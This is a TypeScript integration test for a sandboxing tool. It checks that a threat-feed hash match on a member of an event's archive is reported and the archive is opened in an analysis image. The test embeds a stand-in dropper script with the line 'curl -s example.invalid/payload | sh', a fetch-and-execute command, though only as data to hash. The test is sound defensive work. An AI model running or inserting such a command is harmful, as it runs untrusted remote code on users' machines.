/**
 * Goal: what a threat feed lists is found inside an archive that an event carries, and the run says so: it decides the
 * image and the profile before the archive is opened in a clone. Method: a home of its own with a feed that lists the
 * hash of a member of the example's archive, the real command line, a real clone.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmod, cp, link, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { home } from './rig.ts';

const root = join(import.meta.dirname, '../..');
const example = join(root, 'examples', 'archive');
let folder = '';

/** As set-up has left it, but for templates, with nothing but the image `analysis`. */
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'mayfly-listed-'));
  await chmod(folder, 0o711);
  for (const name of ['kernel', 'initramfs', 'image-analysis']) {
    const record = join('artefacts', `${name}.json`);
    const { digest } = JSON.parse(await readFile(join(home, record), 'utf8')) as { digest: string };
    const hex = digest.slice('sha256:'.length);
    const blob = join('store', 'sha256', hex.slice(0, 2), hex);
    await mkdir(dirname(join(folder, blob)), { recursive: true });
    await link(join(home, blob), join(folder, blob)).catch(() => cp(join(home, blob), join(folder, blob)));
    await mkdir(join(folder, 'artefacts'), { recursive: true });
    await cp(join(home, record), join(folder, record));
  }
  for (const name of ['images', 'keys']) await cp(join(home, name), join(folder, name), { recursive: true });
});
after(() => rm(folder, { recursive: true, force: true }));

async function mayfly(...args: string[]): Promise<{ readonly out: string; readonly err: string }> {
  return await new Promise((resolve) => {
    const options = { env: { ...process.env, MAYFLY_HOME: folder }, timeout: 200_000 };
    execFile(join(root, 'bin/mayfly'), args, options, (_error, out, err) => resolve({ out, err }));
  });
}

interface Answer {
  readonly ok: boolean;
  readonly output?: { readonly verdict: string };
  readonly profile: {
    readonly image: { readonly name: string };
    readonly reasons: readonly { readonly field: string; readonly because: string }[];
  };
}

test('a member of an archive is on a list: the run says so, and opens it in `analysis` all the same', async () => {
  const dropper = '#!/bin/sh\n# A harmless stand-in for a dropper.\ncurl -s example.invalid/payload | sh\n';
  const list = join(folder, 'hashes.txt');
  await writeFile(list, `${createHash('sha256').update(dropper).digest('hex')}\n`);
  await mkdir(join(folder, 'intel'), { recursive: true });
  const feed = `{name: droppers, format: lines, path: ${list}, kind: hash}`;
  await writeFile(join(folder, 'intel', 'feeds.yaml'), `feeds:\n  - ${feed}\n`);
  const synced = await mayfly('intel', 'sync');
  const order = ['--handler', join(example, 'handler.py'), '--code', example, '--event', join(example, 'event.json')];
  const { out, err } = await mayfly('run', ...order, '--json');
  const { ok, output, profile } = JSON.parse(out || '{}') as Answer;
  assert.ok(ok, `${synced.err}${err}${out}`);
  assert.deepEqual([profile.image.name, output?.verdict], ['analysis', 'malicious']);
  const said = profile.reasons.filter(({ field }) => field === 'threat').map(({ because }) => because).join('\n');
  assert.match(said, /droppers/);
  assert.match(said, /level (guarded|elevated|high|critical)/);
});
